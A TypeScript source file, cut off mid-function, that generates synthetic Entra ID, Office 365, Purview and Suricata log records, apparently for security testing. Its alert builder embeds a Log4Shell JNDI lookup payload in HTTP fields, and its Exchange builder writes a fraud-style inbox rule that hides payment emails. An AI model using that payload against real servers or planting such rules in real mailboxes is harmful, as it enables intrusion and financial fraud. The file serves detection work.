// Record builders, one per vendor format, modelled on real exports (see
// ../shared/fixtures). Each returns the record's JSON text. They are written as
// string templates over precomputed fragments, not JSON.stringify of objects, so a
// few million records take seconds; every variable piece that could need escaping
// goes through JSON.stringify, the rest (GUIDs, numbers, addresses) is safe as is.
import type { App, Device, GenIp, GenUser, ServicePrincipal } from './world.js';
import { ORG_NAME, TENANT_DOMAIN, TENANT_ID } from './world.js';
import type { Rng } from './rng.js';

// ---------------------------------------------------------------- time text

const TWO: string[] = Array.from({ length: 60 }, (_, i) => String(i).padStart(2, '0'));
const dayText = new Map<number, string>();

/** "2026-03-02T10:11:12" for epoch ms (UTC). Arithmetic plus a per-day cache: no Date per record. */
export function isoSec(ms: number): string {
  const day = Math.floor(ms / 86_400_000);
  let d = dayText.get(day);
  if (d === undefined) {
    d = new Date(day * 86_400_000).toISOString().slice(0, 11);
    dayText.set(day, d);
  }
  let r = Math.floor(ms / 1000) - day * 86_400;
  const h = Math.floor(r / 3600);
  r -= h * 3600;
  const m = Math.floor(r / 60);
  return d + TWO[h]! + ':' + TWO[m]! + ':' + TWO[r - m * 60]!;
}

function pad(n: number, w: number): string {
  const s = String(n);
  return s.length >= w ? s : '0000000'.slice(0, w - s.length) + s;
}

/** Entra's 7 fractional digits (100 ns ticks). `ns` is within the millisecond. */
export function frac7(ms: number, ns: number): string {
  return pad(((ms % 1000) + 1000) % 1000, 3) + pad(Math.floor(ns / 100), 4);
}

/** Suricata's 6 fractional digits (microseconds). */
export function frac6(ms: number, ns: number): string {
  return pad(((ms % 1000) + 1000) % 1000, 3) + pad(Math.floor(ns / 1000), 3);
}

// ---------------------------------------------------------------- Entra ID

export interface SigninError {
  code: number;
  reason: string;
}

export const ERRORS = {
  badPassword: { code: 50126, reason: 'Error validating credentials due to invalid username or password.' },
  mfaRequired: { code: 50074, reason: 'Strong Authentication is required.' },
  mfaRequiredLocation: { code: 50076, reason: 'Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication to access the resource.' },
  kmsi: { code: 50140, reason: "This error occurred due to 'Keep me signed in' interrupt when the user was signing-in." },
  caBlocked: { code: 53003, reason: 'Access has been blocked by Conditional Access policies. The access policy does not allow token issuance.' },
  locked: { code: 50053, reason: 'Account is locked because user tried to sign in too many times with an incorrect user ID or password.' },
  noUser: { code: 50034, reason: 'The user account does not exist in the tenant directory.' },
  refreshExpired: { code: 700082, reason: 'The refresh token has expired due to inactivity.' },
  freshAuth: { code: 50173, reason: 'The provided grant has expired due to it being revoked, a fresh auth token is needed.' },
  sessionExpired: { code: 70044, reason: 'The session has expired or is invalid due to sign-in frequency checks by conditional access.' },
  badSecret: { code: 7000215, reason: 'Invalid client secret is provided.' },
  expiredSecret: { code: 7000222, reason: 'The provided client secret keys are expired.' },
} satisfies Record<string, SigninError>;

const CA_POLICIES = [
  ['0c8f4e1a-8b7f-4a0e-9d53-6f1c2b3a4d01', '01 - Require MFA for all users', '["Mfa"]'],
  ['0c8f4e1a-8b7f-4a0e-9d53-6f1c2b3a4d02', '02 - Block legacy authentication', '["Block"]'],
  ['0c8f4e1a-8b7f-4a0e-9d53-6f1c2b3a4d03', '03 - Require compliant device for admins', '["RequireCompliantDevice"]'],
  ['0c8f4e1a-8b7f-4a0e-9d53-6f1c2b3a4d04', '04 - Block sign-ins from high-risk countries', '["Block"]'],
] as const;

function caPolicies(results: readonly string[]): string {
  return (
    '"appliedConditionalAccessPolicies":[' +
    CA_POLICIES.map(
      ([id, name, grant], i) =>
        `{"conditionsNotSatisfied":${results[i] === 'notApplied' ? 2 : 0},"conditionsSatisfied":${results[i] === 'notApplied' ? 1 : 3},"displayName":"${name}","enforcedGrantControls":${grant},"enforcedSessionControls":[],"id":"${id}","result":"${results[i]}"}`,
    ).join(',') +
    ']'
  );
}
const CA_SUCCESS = caPolicies(['success', 'notApplied', 'notApplied', 'notApplied']);
const CA_NOT_APPLIED = caPolicies(['notApplied', 'notApplied', 'notApplied', 'notApplied']);
const CA_FAILURE = caPolicies(['notApplied', 'notApplied', 'notApplied', 'failure']);
const CA_MFA_PENDING = caPolicies(['failure', 'notApplied', 'notApplied', 'notApplied']);

/** What every Entra sign-in record of the generator has: ids, times, the address. */
interface EntraRecordBase {
  id: string;
  correlationId: string;
  ms: number;
  /** Nanoseconds within the millisecond, a multiple of 100. */
  ns: number;
  /** Write delay: `time` is this many ms after createdDateTime. */
  delayMs: number;
  ipText: string;
  ip: GenIp;
}

export interface EntraSignin extends EntraRecordBase {
  category: 'SignInLogs' | 'NonInteractiveUserSignInLogs';
  user: GenUser;
  app: App;
  device: Device;
  error: SigninError | null;
  risk?: 'none' | 'medium' | 'high';
  uti: string;
}

function statusJson(e: SigninError | null, withNulls: boolean): string {
  if (e === null) {
    return withNulls ? '"status":{"errorCode":0,"failureReason":null,"additionalDetails":null}' : '"status":{"errorCode":0}';
  }
  const details = e.code === 50074 || e.code === 50076 ? 'MFA required in Azure AD' : null;
  return `"status":{"errorCode":${e.code},"failureReason":${JSON.stringify(e.reason)},"additionalDetails":${details === null ? 'null' : JSON.stringify(details)}}`;
}

function authDetails(created: string, e: SigninError | null, interactive: boolean): string {
  if (!interactive) return '"authenticationDetails":[]';
  const pw = e?.code === 50126 || e?.code === 50053
    ? `{"authenticationStepDateTime":"${created}","authenticationMethod":"Password","authenticationMethodDetail":"Password in the cloud","succeeded":false,"authenticationStepResultDetail":"Invalid username or password or Invalid on-premise username or password.","authenticationStepRequirement":"Primary authentication","StatusSequence":0,"RequestSequence":1}`
    : `{"authenticationStepDateTime":"${created}","authenticationMethod":"Password","authenticationMethodDetail":"Password in the cloud","succeeded":true,"authenticationStepResultDetail":"Correct password","authenticationStepRequirement":"Primary authentication","StatusSequence":0,"RequestSequence":1}`;
  if (e !== null) return `"authenticationDetails":[${pw}]`;
  return `"authenticationDetails":[${pw},{"authenticationStepDateTime":"${created}","authenticationMethod":"Mobile app notification","succeeded":true,"authenticationStepResultDetail":"MFA successfully completed","authenticationStepRequirement":"Primary authentication","StatusSequence":0,"RequestSequence":1}]`;
}

/** deviceDetail of an unregistered device (an attacker's script, a kiosk). */
function bareDeviceDetail(d: Device): string {
  return `"deviceDetail":{"browser":"${d.browser}","deviceId":"","displayName":null,"isCompliant":false,"isManaged":false,"operatingSystem":"${d.os}","trustType":null}`;
}

/** An Azure Monitor diagnostic-settings record for a user sign-in (interactive or not). */
export function entraUserRecord(p: EntraSignin): string {
  const created = `${isoSec(p.ms)}.${frac7(p.ms, p.ns)}+00:00`;
  const tMs = p.ms + p.delayMs;
  const time = `${isoSec(tMs)}.${frac7(tMs, (p.ns + 3100) % 1000000)}Z`;
  const interactive = p.category === 'SignInLogs';
  const e = p.error;
  const resultType = e === null ? '0' : String(e.code);
  const risk = p.risk ?? 'none';
  const ca = e?.code === 53003 ? CA_FAILURE : e?.code === 50074 || e?.code === 50076 ? CA_MFA_PENDING : e === null ? CA_SUCCESS : CA_NOT_APPLIED;
  const caStatus = e?.code === 53003 ? 'failure' : e === null ? 'success' : 'notApplied';
  return (
    `{"time":"${time}","resourceId":"/tenants/${TENANT_ID}/providers/Microsoft.aadiam","operationName":"Sign-in activity","operationVersion":"1.0","category":"${p.category}","tenantId":"${TENANT_ID}","resultType":"${resultType}","resultSignature":"None",` +
    (e === null ? '' : `"resultDescription":${JSON.stringify(e.reason)},`) +
    `"durationMs":0,"callerIpAddress":"${p.ipText}","correlationId":"${p.correlationId}","identity":${JSON.stringify(p.user.display)},"Level":4,"location":"${p.ip.geo.country}",` +
    `"properties":{"id":"${p.id}","createdDateTime":"${created}",${p.user.entraUser},"appId":"${p.app.id}","appDisplayName":"${p.app.name}","ipAddress":"${p.ipText}",` +
    `${statusJson(e, false)},"clientAppUsed":"${p.device.clientApp}","userAgent":${JSON.stringify(p.device.userAgent)},"correlationId":"${p.correlationId}","conditionalAccessStatus":"${caStatus}","originalRequestId":"${p.id}","isInteractive":${interactive},"tokenIssuerName":"","tokenIssuerType":"AzureAD",` +
    `"processingTimeInMilliseconds":${80 + (p.ns % 700)},"riskDetail":"none","riskLevelAggregated":"${risk}","riskLevelDuringSignIn":"${risk}","riskState":"${risk === 'none' ? 'none' : 'atRisk'}","riskEventTypes":[],"riskEventTypes_v2":[],` +
    `"resourceDisplayName":"${p.app.resource}","resourceId":"${p.app.resourceId}","resourceTenantId":"${TENANT_ID}","homeTenantId":"${TENANT_ID}","appOwnerTenantId":"f8cdef31-a31e-4b4a-93e4-5f571e91255a","resourceOwnerTenantId":"f8cdef31-a31e-4b4a-93e4-5f571e91255a",` +
    `"authenticationMethodsUsed":[],"authenticationRequirement":"${interactive ? 'multiFactorAuthentication' : 'singleFactorAuthentication'}",${authDetails(created, e, interactive)},` +
    `"authenticationProcessingDetails":[{"key":"Legacy TLS (TLS 1.0, 1.1, 3DES)","value":"False"},{"key":"Is CAE Token","value":"False"}],"authenticationRequirementPolicies":[],"networkLocationDetails":[],` +
    `${p.device === p.user.device ? p.user.deviceDetail : bareDeviceDetail(p.device)},${p.ip.entraLoc},${ca},"authenticationContextClassReferences":[],"servicePrincipalId":"","userType":"Member","flaggedForReview":false,"isTenantRestricted":false,"autonomousSystemNumber":${p.ip.geo.asn},"crossTenantAccessType":"none","privateLinkDetails":{},"ssoExtensionVersion":"","uniqueTokenIdentifier":"${p.uti}","incomingTokenType":"${interactive ? 'none' : 'refreshToken'}","authenticationProtocol":"none","sessionLifetimePolicies":[],"isThroughGlobalSecureAccess":false,"globalSecureAccessIpAddress":""}}`
  );
}

export interface EntraSpSignin extends EntraRecordBase {
  sp: ServicePrincipal;
  error: SigninError | null;
  uti: string;
}

/** ServicePrincipalSignInLogs / ManagedIdentitySignInLogs record (managed identities have no address). */
export function entraSpRecord(p: EntraSpSignin): string {
  const created = `${isoSec(p.ms)}.${frac7(p.ms, p.ns)}+00:00`;
  const tMs = p.ms + p.delayMs;
  const time = `${isoSec(tMs)}.${frac7(tMs, p.ns)}Z`;
  const mi = p.sp.managed;
  const e = p.error;
  const loc = mi
    ? '"location":{"city":"","state":"","countryOrRegion":"","geoCoordinates":{"latitude":0.0,"longitude":0.0}}'
    : p.ip.entraLoc;
  return (
    `{"time":"${time}","resourceId":"/tenants/${TENANT_ID}/providers/Microsoft.aadiam","operationName":"Sign-in activity","operationVersion":"1.0","category":"${mi ? 'ManagedIdentitySignInLogs' : 'ServicePrincipalSignInLogs'}","tenantId":"${TENANT_ID}","resultType":"${e === null ? '0' : e.code}","resultSignature":"None",` +
    (e === null ? '' : `"resultDescription":${JSON.stringify(e.reason)},`) +
    `"durationMs":0,"callerIpAddress":"${p.ipText}","correlationId":"${p.correlationId}","Level":4,"location":"${mi ? '' : p.ip.geo.country}",` +
    `"properties":{"id":"${p.id}","createdDateTime":"${created}","userId":null,"appId":"${p.sp.appId}","ipAddress":"${p.ipText}",${statusJson(e, false)},${loc},"correlationId":"${p.correlationId}","conditionalAccessStatus":"notApplied","appliedConditionalAccessPolicies":[],"isInteractive":false,"tokenIssuerType":"AzureAD","processingTimeInMilliseconds":${(p.ns / 100) % 90},` +
    `"riskDetail":"none","riskLevelAggregated":"low","riskLevelDuringSignIn":"low","riskState":"none","resourceDisplayName":"${p.sp.resource}","resourceId":"${p.sp.resourceId}","servicePrincipalName":"${p.sp.name}","servicePrincipalId":"${p.sp.id}",` +
    (mi ? '' : `"servicePrincipalCredentialKeyId":"${p.sp.appId.slice(0, 8)}-7c1e-4d2a-9b0f-3e5a6c7d8e9f","servicePrincipalCredentialThumbprint":"",`) +
    `"flaggedForReview":false,"isTenantRestricted":false,"crossTenantAccessType":"none","uniqueTokenIdentifier":"${p.uti}","incomingTokenType":"none","authenticationProtocol":"none","autonomousSystemNumber":${mi ? 0 : p.ip.geo.asn}}}`
  );
}

/** A Microsoft Graph v1.0 signIn resource (auditLogs/signIns). */
export function graphSignin(p: EntraSignin): string {
  const created = `${isoSec(p.ms)}.${frac7(p.ms, p.ns)}Z`;
  const e = p.error;
  const interactive = p.category === 'SignInLogs';
  const risk = p.risk ?? 'none';
  const ca = e?.code === 53003 ? CA_FAILURE : e === null ? CA_SUCCESS : CA_NOT_APPLIED;
  const d = p.device;
  return (
    `{"id":"${p.id}","createdDateTime":"${created}",${p.user.entraUser},"appId":"${p.app.id}","appDisplayName":"${p.app.name}","ipAddress":"${p.ipText}","clientAppUsed":"${d.clientApp}","correlationId":"${p.correlationId}",` +
    `"conditionalAccessStatus":"${e?.code === 53003 ? 'failure' : e === null ? 'success' : 'notApplied'}","isInteractive":${interactive},"riskDetail":"none","riskLevelAggregated":"${risk}","riskLevelDuringSignIn":"${risk}","riskState":"${risk === 'none' ? 'none' : 'atRisk'}","riskEventTypes":[],"riskEventTypes_v2":[],` +
    `"resourceDisplayName":"${p.app.resource}","resourceId":"${p.app.resourceId}",${statusJson(e, true)},` +
    `"deviceDetail":{"deviceId":"${d === p.user.device ? p.user.deviceId : ''}","displayName":null,"operatingSystem":"${d.os}","browser":"${d.browser}","isCompliant":${d.trustType !== null},"isManaged":${d.trustType !== null},"trustType":${d.trustType === null ? 'null' : `"${d.trustType}"`}},` +
    `${p.ip.graphLoc},${ca}}`
  );
}

// ---------------------------------------------------------------- Office 365 Management Activity API

export interface M365Common {
  id: string;
  /** Whole seconds: the API writes CreationTime without fraction or zone. */
  ms: number;
  user: GenUser;
}

export interface MailAccess extends M365Common {
  /** ClientIPAddress as written. */
  ipAddress: string;
  /** ClientIP as written, or null when the record has none. */
  clientIp: string | null;
  clientInfo: string;
  appId: string;
  sessionId: string;
  failed: boolean;
  /** Precomputed folder JSON; null for a Sync access (folder only). */
  folders: string;
  count: number;
  sync: boolean;
}

const SERVERS = ['AM0PR07MB4131', 'DB9PR07MB7868', 'FR3P281MB1567', 'VI1PR07MB6350', 'PAXPR07MB8844', 'LO2P265MB5123'];
const FOLDERS = ['\\Inbox', '\\Sent Items', '\\Archive', '\\Inbox\\Finance', '\\Inbox\\Projects', '\\Drafts', '\\Deleted Items'];

/** A pool of realistic `"Folders":[...]` values to pick from. */
export function folderPool(rng: Rng, n: number): Array<{ json: string; count: number }> {
  const out: Array<{ json: string; count: number }> = [];
  for (let i = 0; i < n; i++) {
    const folder = rng.pick(FOLDERS);
    const server = rng.pick(SERVERS);
    const items: string[] = [];
    const k = rng.range(1, 4);
    for (let j = 0; j < k; j++) {
      items.push(
        `{"Id":"LgAAAAB${rng.b64(40)}AAAJ","ImmutableId":"LgAAAAB${rng.b64(30)}AAAJ","InternetMessageId":"<${server}${rng.hex(24).toUpperCase()}@${server}.eurprd07.prod.outlook.com>","SizeInBytes":${rng.range(2500, 480000)}}`,
      );
    }
    out.push({
      json: `"Folders":[{"FolderItems":[${items.join(',')}],"Id":"LgAAAAB${rng.b64(36)}AQAAAA","Path":${JSON.stringify(folder)}}]`,
      count: k,
    });
  }
  return out;
}

function exchangeHead(p: M365Common, op: string, recordType: number, status: string): string {
  return `{"CreationTime":"${isoSec(p.ms)}","Id":"${p.id}","Operation":"${op}","OrganizationId":"${TENANT_ID}","RecordType":${recordType},"ResultStatus":"${status}","UserKey":"${p.user.puid}","UserType":0,"Version":1,"Workload":"Exchange"`;
}

function mailboxFields(p: M365Common): string {
  return `"LogonUserSid":"${p.user.sid}","MailboxGuid":"${p.user.mailboxGuid}","MailboxOwnerSid":"${p.user.sid}","MailboxOwnerUPN":"${p.user.upn}","OrganizationName":"${ORG_NAME}"`;
}

/** Exchange MailItemsAccessed (RecordType 50). */
export function mailItemsAccessed(p: MailAccess): string {
  return (
    exchangeHead(p, 'MailItemsAccessed', 50, p.failed ? 'Failed' : 'Succeeded') +
    (p.clientIp === null ? '' : `,"ClientIP":"${p.clientIp}"`) +
    `,"UserId":"${p.user.upn}","AppId":"${p.appId}","AppAccessContext":{"AADSessionId":"${p.sessionId}","ClientAppId":"${p.appId}","IssuedAtTime":"${isoSec(p.ms - 1800000)}","UniqueTokenId":"${p.id.slice(0, 8)}fQ0Kk${p.sessionId.slice(0, 6)}AA"},` +
    `"ClientAppId":"${p.appId}","ClientIPAddress":"${p.ipAddress}","ClientInfoString":${JSON.stringify(p.clientInfo)},"ExternalAccess":false,"InternalLogonType":0,"LogonType":0,${mailboxFields(p)},` +
    `"OperationProperties":[{"Name":"MailAccessType","Value":"${p.sync ? 'Sync' : 'Bind'}"},{"Name":"IsThrottled","Value":"False"}],"OriginatingServer":"${SERVERS[p.ms % SERVERS.length]} (15.20.7386.${pad(p.ms % 40, 3)})","SessionId":"${p.sessionId}",` +
    (p.sync
      ? `"Folders":[{"Id":"LgAAAAB0E1sLq5f3SqUu2k9nA7cQAQAAAA","Path":"\\\\Inbox"}],"OperationCount":1}`
      : `${p.folders},"OperationCount":${p.count}}`)
  );
}

export interface ExchangeOther extends M365Common {
  op: 'Send' | 'SoftDelete' | 'MoveToDeletedItems' | 'New-InboxRule' | 'Set-InboxRule' | 'Update';
  clientIp: string;
  ipAddress: string;
  clientInfo: string;
  sessionId: string;
  subject: string;
}

export function exchangeOther(p: ExchangeOther): string {
  if (p.op === 'New-InboxRule' || p.op === 'Set-InboxRule') {
    return (
      `{"CreationTime":"${isoSec(p.ms)}","Id":"${p.id}","Operation":"${p.op}","OrganizationId":"${TENANT_ID}","RecordType":1,"ResultStatus":"True","UserKey":"${p.user.puid}","UserType":2,"Version":1,"Workload":"Exchange","ClientIP":"${p.clientIp}",` +
      `"ObjectId":${JSON.stringify(`EURPR07A001.prod.outlook.com/Microsoft Exchange Hosted Organizations/${ORG_NAME}/${p.user.display}\\${p.subject}`)},"UserId":"${p.user.upn}","AppId":"00000002-0000-0ff1-ce00-000000000000","ClientAppId":"","ExternalAccess":false,"OrganizationName":"${ORG_NAME}","OriginatingServer":"AM0PR07MB4131 (15.20.7386.023)",` +
      `"Parameters":[{"Name":"AlwaysDeleteOutlookRulesBlob","Value":"False"},{"Name":"Force","Value":"False"},{"Name":"MoveToFolder","Value":"RSS Feeds"},{"Name":"Name","Value":${JSON.stringify(p.subject)}},{"Name":"SubjectOrBodyContainsWords","Value":"invoice;payment;wire;bank"},{"Name":"MarkAsRead","Value":"True"},{"Name":"StopProcessingRules","Value":"True"}],"SessionId":"${p.sessionId}"}`
    );
  }
  const rt = p.op === 'Send' || p.op === 'Update' ? 2 : 3;
  const folder = p.op === 'Send' ? '\\Sent Items' : p.op === 'Update' ? '\\Drafts' : '\\Inbox';
  const item = `{"Id":"RgAAAAB${p.id.replace(/-/g, '')}BwA","InternetMessageId":"<${p.id.slice(0, 13).toUpperCase()}@AM0PR07MB4131.eurprd07.prod.outlook.com>","ParentFolder":{"Id":"LgAAAAB0E1sLq5f3SqUu2k9nA7cQAQAAAA","Path":${JSON.stringify(folder)}},"SizeInBytes":${8000 + (p.ms % 90000)},"Subject":${JSON.stringify(p.subject)}}`;
  return (
    exchangeHead(p, p.op, rt, 'Succeeded') +
    `,"ClientIP":"${p.clientIp}","UserId":"${p.user.upn}","AppId":"00000002-0000-0ff1-ce00-000000000000","ClientAppId":"","ClientIPAddress":"${p.ipAddress}","ClientInfoString":${JSON.stringify(p.clientInfo)},"ExternalAccess":false,"InternalLogonType":0,"LogonType":0,${mailboxFields(p)},"OriginatingServer":"AM0PR07MB4131 (15.20.7386.023)","SessionId":"${p.sessionId}",` +
    (rt === 2 ? `"Item":${item}}` : `"AffectedItems":[${item}],"CrossMailboxOperation":false,"Folder":{"Id":"LgAAAAB0E1sLq5f3SqUu2k9nA7cQAQAAAA","Path":${JSON.stringify(folder)}}}`)
  );
}

export interface AadLogin extends M365Common {
  clientIp: string;
  failed: boolean;
  userAgent: string;
  device: Device;
  appId: string;
  sessionId: string;
  interSystemsId: string;
}

/** AzureActiveDirectory UserLoggedIn / UserLoginFailed (RecordType 15). */
export function aadLogin(p: AadLogin): string {
  const u = p.user;
  const ext = p.failed
    ? `[{"Name":"UserAgent","Value":${JSON.stringify(p.userAgent)}},{"Name":"RequestType","Value":"Login:login"},{"Name":"ResultStatusDetail","Value":"Success"}]`
    : `[{"Name":"ResultStatusDetail","Value":"Redirect"},{"Name":"UserAgent","Value":${JSON.stringify(p.userAgent)}},{"Name":"RequestType","Value":"OAuth2:Authorize"}]`;
  return (
    `{"CreationTime":"${isoSec(p.ms)}","Id":"${p.id}","Operation":"${p.failed ? 'UserLoginFailed' : 'UserLoggedIn'}","OrganizationId":"${TENANT_ID}","RecordType":15,"ResultStatus":"${p.failed ? 'Failed' : 'Success'}","UserKey":"${u.id}","UserType":0,"Version":1,"Workload":"AzureActiveDirectory",` +
    `"ClientIP":"${p.clientIp}","ObjectId":"${p.appId}","UserId":"${u.upn}","AzureActiveDirectoryEventType":1,"ExtendedProperties":${ext},"ModifiedProperties":[],` +
    `"Actor":[{"ID":"${u.id}","Type":0},{"ID":"${u.upn}","Type":5}],"ActorContextId":"${TENANT_ID}","ActorIpAddress":"${p.clientIp}","InterSystemsId":"${p.interSystemsId}","IntraSystemId":"${p.id}","SupportTicketId":"",` +
    `"Target":[{"ID":"${p.appId}","Type":0}],"TargetContextId":"${TENANT_ID}","ApplicationId":"${p.appId}",` +
    `"DeviceProperties":[{"Name":"OS","Value":"${p.device.os}"},{"Name":"BrowserType","Value":"${p.device.browser.split(' ')[0]}"},{"Name":"IsCompliantAndManaged","Value":"${p.device.trustType === null ? 'False' : 'True'}"},{"Name":"SessionId","Value":"${p.sessionId}"}],` +
    (p.failed ? `"ErrorNumber":"50126","LogonError":"InvalidUserNameOrPassword"}` : `"ErrorNumber":"0"}`)
  );
}

export interface SharePointAccess extends M365Common {
  op: 'FileAccessed' | 'FileDownloaded' | 'FileModified' | 'FilePreviewed';
  clientIp: string;
  userAgent: string;
  site: string;
  file: string;
  listId: string;
  itemId: string;
}

export function sharePointFile(p: SharePointAccess): string {
  const siteUrl = `https://fabrikamgroup.sharepoint.com/sites/${p.site}/`;
  const ext = p.file.slice(p.file.lastIndexOf('.') + 1);
  return (
    `{"CreationTime":"${isoSec(p.ms)}","Id":"${p.id}","Operation":"${p.op}","OrganizationId":"${TENANT_ID}","RecordType":6,"UserKey":"i:0h.f|membership|${p.user.puid.toLowerCase()}@live.com","UserType":0,"Version":1,"Workload":"SharePoint",` +
    `"ClientIP":"${p.clientIp}","ObjectId":${JSON.stringify(`${siteUrl}Shared Documents/${p.file}`)},"UserId":"${p.user.upn}","CorrelationId":"${p.itemId}","EventSource":"SharePoint","ItemType":"File","ListId":"${p.listId}","ListItemUniqueId":"${p.itemId}",` +
    `"Site":"${p.listId}","UserAgent":${JSON.stringify(p.userAgent)},"WebId":"${p.listId}","SourceFileExtension":"${ext}","SiteUrl":"${siteUrl}","SourceFileName":${JSON.stringify(p.file)},"SourceRelativeUrl":"Shared Documents","ApplicationDisplayName":"Microsoft Office","GeoLocation":"EUR","IsManagedDevice":false}`
  );
}

// ---------------------------------------------------------------- Purview audit search CSV

/** RFC 4180 field quoting. */
export function csvField(s: string): string {
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

export const PURVIEW_HEADER = 'CreationDate,UserIds,Operations,AuditData';

export function purviewRow(ms: number, user: string, op: string, auditData: string): string {
  return `${isoSec(ms)}.0000000Z,${csvField(user)},${csvField(op)},${csvField(auditData)}\r\n`;
}

// ---------------------------------------------------------------- Suricata EVE

export interface Sensor {
  name: string;
  iface: string;
  /** Minutes east of UTC the sensor writes its timestamps in. */
  offsetMin: number;
  offsetText: string;
}

export interface Signature {
  sid: number;
  rev: number;
  msg: string;
  category: string;
  severity: number;
  proto: 'TCP' | 'UDP';
  port: number;
  app: string | null;
}

export const SIGNATURES: Signature[] = [
  { sid: 2001219, rev: 20, msg: 'ET SCAN Potential SSH Scan', category: 'Attempted Information Leak', severity: 2, proto: 'TCP', port: 22, app: null },
  { sid: 2002911, rev: 6, msg: 'ET SCAN Potential VNC Scan 5900-5920', category: 'Attempted Information Leak', severity: 2, proto: 'TCP', port: 5901, app: null },
  { sid: 2010935, rev: 3, msg: 'ET SCAN Suspicious inbound to MSSQL port 1433', category: 'Potentially Bad Traffic', severity: 2, proto: 'TCP', port: 1433, app: null },
  { sid: 2010937, rev: 3, msg: 'ET SCAN Suspicious inbound to mySQL port 3306', category: 'Potentially Bad Traffic', severity: 2, proto: 'TCP', port: 3306, app: null },
  { sid: 2024364, rev: 5, msg: 'ET SCAN Possible Nmap User-Agent Observed', category: 'Web Application Attack', severity: 1, proto: 'TCP', port: 443, app: 'http' },
  { sid: 2403302, rev: 98512, msg: 'ET CINS Active Threat Intelligence Poor Reputation IP group 3', category: 'Misc Attack', severity: 2, proto: 'TCP', port: 443, app: null },
  { sid: 2403341, rev: 98512, msg: 'ET CINS Active Threat Intelligence Poor Reputation IP group 42', category: 'Misc Attack', severity: 2, proto: 'TCP', port: 25, app: null },
  { sid: 2500002, rev: 6420, msg: 'ET COMPROMISED Known Compromised or Hostile Host Traffic group 2', category: 'Misc Attack', severity: 2, proto: 'TCP', port: 443, app: null },
  { sid: 2500056, rev: 6420, msg: 'ET COMPROMISED Known Compromised or Hostile Host Traffic group 29', category: 'Misc Attack', severity: 2, proto: 'TCP', port: 8443, app: null },
  { sid: 2402000, rev: 7103, msg: 'ET DROP Dshield Block Listed Source group 1', category: 'Misc Attack', severity: 2, proto: 'TCP', port: 3389, app: null },
  { sid: 2400001, rev: 4011, msg: 'ET DROP Spamhaus DROP Listed Traffic Inbound group 2', category: 'Misc Attack', severity: 2, proto: 'TCP', port: 443, app: null },
  { sid: 2520016, rev: 5311, msg: 'ET TOR Known Tor Exit Node Traffic group 9', category: 'Misc Attack', severity: 2, proto: 'TCP', port: 443, app: null },
  { sid: 2034647, rev: 2, msg: 'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)', category: 'Attempted Administrator Privilege Gain', severity: 1, proto: 'TCP', port: 443, app: 'http' },
];
/** Outbound policy alerts raised by internal clients (source is a private address). */
export const POLICY_SIGNATURES: Signature[] = [
  { sid: 2024833, rev: 3, msg: 'ET POLICY Observed IP Lookup Domain (l2 .io in TLS SNI)', category: 'Potential Corporate Privacy Violation', severity: 1, proto: 'TCP', port: 443, app: 'tls' },
  { sid: 2013028, rev: 7, msg: 'ET POLICY curl User-Agent Outbound', category: 'Attempted Information Leak', severity: 2, proto: 'TCP', port: 80, app: 'http' },
  { sid: 2027390, rev: 4, msg: 'ET POLICY Dropbox.com Offsite File Backup in Use', category: 'Potential Corporate Privacy Violation', severity: 1, proto: 'TCP', port: 443, app: 'tls' },
];

export function eveTime(sensor: Sensor, ms: number, ns: number): string {
  const local = ms + sensor.offsetMin * 60000;
  return `${isoSec(local)}.${frac6(local, ns)}${sensor.offsetText}`;
}

export interface EveAlert {
  sensor: Sensor;
  ms: number;
  ns: number;
  flowId: number;
  src: string;
  srcPort: number;
  dest: string;
  sig: Signature;
  community: string;
}

export function eveAlert(p: EveAlert): string {
  const s = p.sig;
  const startMs = p.ms - 1500 - (p.flowId % 9000);
  const app = s.app === null ? '' : `,"app_proto":"${s.app}"`;
  const http = s.app === 'http'
    ? `,"http":{"hostname":"mail.${TENANT_DOMAIN}","url":${s.sid === 2034647 ? '"/?x=${jndi:ldap://' + p.src + ':1389/a}"' : '"/nice%20ports%2C/Tri%6Eity.txt%2ebak"'},"http_user_agent":${s.sid === 2034647 ? '"Mozilla/5.0 ${jndi:ldap://x/a}"' : '"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"'},"http_method":"GET","protocol":"HTTP/1.1","status":404,"length":196}`
    : s.app === 'tls'
      ? ',"tls":{"sni":"l2.io","version":"TLS 1.2"}'
      : '';
  return (
    `{"timestamp":"${eveTime(p.sensor, p.ms, p.ns)}","flow_id":${p.flowId},"in_iface":"${p.sensor.iface}","event_type":"alert","src_ip":"${p.src}","src_port":${p.srcPort},"dest_ip":"${p.dest}","dest_port":${s.port},"proto":"${s.proto}","pkt_src":"wire/pcap","community_id":"1:${p.community}=",` +
    `"alert":{"action":"allowed","gid":1,"signature_id":${s.sid},"rev":${s.rev},"signature":${JSON.stringify(s.msg)},"category":"${s.category}","severity":${s.severity},"metadata":{"created_at":["2019_10_01"],"updated_at":["2026_02_27"],"signature_severity":["${s.severity === 1 ? 'Major' : 'Minor'}"]}}` +
    `${http}${app},"direction":"to_server","flow":{"pkts_toserver":${3 + (p.flowId % 7)},"pkts_toclient":${p.flowId % 5},"bytes_toserver":${180 + (p.flowId % 1400)},"bytes_toclient":${p.flowId % 900},"start":"${eveTime(p.sensor, startMs, 0)}","src_ip":"${p.src}","dest_ip":"${p.dest}","src_port":${p.srcPort},"dest_port":${s.port}},"host":"${p.sensor.name}"}`
  );
}

export interface EveTraffic {
  sensor: Sensor;
  ms: number;
  ns: number;
  flowId: number;
  src: string;
  srcPort: number;
  dest: string;
  host: string;
  issuer: string;
  community: string;
  kind: 'flow' | 'dns' | 'tls' | 'http';
  resolver: string;
}

export function eveTraffic(p: EveTraffic): string {
  const ts = eveTime(p.sensor, p.ms, p.ns);
  const head = `{"timestamp":"${ts}","flow_id":${p.flowId},"in_iface":"${p.sensor.iface}","event_type":"${p.kind}",`;
  const f = p.flowId;
  switch (p.kind) {
    case 'dns':
      return (
        head +
        `"src_ip":"${p.src}","src_port":${p.srcPort},"dest_ip":"${p.resolver}","dest_port":53,"proto":"UDP","pkt_src":"wire/pcap","community_id":"1:${p.community}=",` +
        (f % 2 === 0
          ? `"dns":{"version":3,"type":"request","tx_id":0,"queries":[{"rrname":"${p.host}","rrtype":"A"}],"id":${f % 65536}},"host":"${p.sensor.name}"}`
